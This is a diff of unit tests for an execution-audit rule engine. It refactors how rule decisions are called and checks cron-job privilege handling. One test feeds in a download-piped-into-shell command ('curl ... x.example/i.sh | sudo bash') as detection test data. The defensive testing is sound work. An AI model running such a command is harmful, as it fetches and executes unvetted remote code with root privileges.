@@ -10,8 +10,7 @@ import pytest
 from execaudit.config.configuration import read_rules
 from execaudit.rules.fields import FIELDS
 from execaudit.rules.rule_set import RuleSet, compile_rules
-from tests.rule_tables import LOOKUPS
-from tests.unit.test_rules import record
+from tests.rule_tables import LOOKUPS, decide, record
 
 ROOT = Path(__file__).parents[2]
 GUIDE = (ROOT / "docs/rules.md").read_text()
@@ -64,18 +63,18 @@ def test_download_piped_into_a_shell_is_found() -> None:
     rules = compile_text(block)
     command = "curl -fsSL https://x.example/i.sh | sudo bash"
 
-    assert rules.decide_record(record(argv=["sh", "-c", command])).labels == ()
+    assert decide(rules, record(argv=["sh", "-c", command])).labels == ()
     command = command.replace("sudo ", "")
-    assert rules.decide_record(record(argv=["sh", "-c", command])).labels == ("suspicious",)
-    assert rules.decide_record(record(argv=["curl", "-o", "x|y"])).labels == ()
+    assert decide(rules, record(argv=["sh", "-c", command])).labels == ("suspicious",)
+    assert decide(rules, record(argv=["curl", "-o", "x|y"])).labels == ()
 
 
 def test_cron_example_keeps_what_gains_privilege() -> None:
     (block,) = [block for block in BLOCKS if "cron jobs" in block]
     rules = compile_text(block)
-    rules.images.remember_running(5, 5000 * 1 // 10_000_000, "/usr/sbin/cron")
+    rules.programs.remember_running(5, 5000 * 1 // 10_000_000, "/usr/sbin/cron")
     job = record(10, above=(5,)) | {"parent_id": "boot-5-1388-1"}
 
-    assert rules.decide_record(job).action == "drop"
-    assert rules.decide_record(record(11, above=(10,))).action == "drop"
-    assert rules.decide_record(record(12, above=(10,), privileged=True)).action == "keep"
+    assert decide(rules, job).action == "drop"
+    assert decide(rules, record(11, above=(10,))).action == "drop"
+    assert decide(rules, record(12, above=(10,), privileged=True)).action == "keep"
